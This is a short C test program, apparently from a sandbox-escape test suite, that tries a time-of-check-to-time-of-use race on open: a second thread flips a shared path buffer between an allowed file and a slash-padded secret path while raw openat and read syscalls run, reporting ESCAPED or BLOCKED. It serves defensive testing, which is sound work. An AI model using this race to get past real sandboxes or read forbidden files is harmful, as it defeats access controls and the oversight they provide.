/* TOCTOU on open: a second thread flips the path buffer between an allowed file
 * and the secret while the main thread opens and reads it. Any read that returns
 * the secret's content is an escape. */
#include "escape.h"
#include <pthread.h>
static char path[4096], allowed[4096], forbidden[4096];
static volatile int stop;
static void *flipper(void *unused) {
    (void)unused;
    while (!stop) {
        memcpy(path, forbidden, sizeof path);
        memcpy(path, allowed, sizeof path);
    }
    return 0;
}
int main(int argc, char **argv) {
    setup(argc, argv);
    snprintf(allowed, sizeof allowed, "%s/file", allowed_dir);
    /* Pad the secret's path with slashes to the allowed path's length. */
    size_t a = strlen(allowed), s = strlen(secret_file);
    if (s > a) { printf("SETUP ERROR: the secret path must not be longer than ALLOWED_DIR/file\n"); return 2; }
    memset(forbidden, '/', a - s);
    memcpy(forbidden + (a - s), secret_file, s + 1);
    memcpy(path, allowed, sizeof path);
    pthread_t thread;
    pthread_create(&thread, 0, flipper, 0);
    int opened = 0, denied = 0;
    for (int i = 0; i < 3000; i++) {
        long fd = raw4(SYS_openat, AT_FDCWD, path, O_RDONLY, 0);
        if (fd < 0) { denied++; continue; }
        opened++;
        char buffer[64] = {0};
        raw3(SYS_read, fd, buffer, sizeof buffer - 1);
        raw1(SYS_close, fd);
        if (strncmp(buffer, "secret", 6) == 0) {
            printf("ESCAPED open race: read the secret after %d tries\n", i);
            escapes++;
            break;
        }
    }
    stop = 1;
    pthread_join(thread, 0);
    if (!escapes) printf("BLOCKED open race: %d opens of the allowed file, %d refused, secret never read\n", opened, denied);
    return verdict();
}
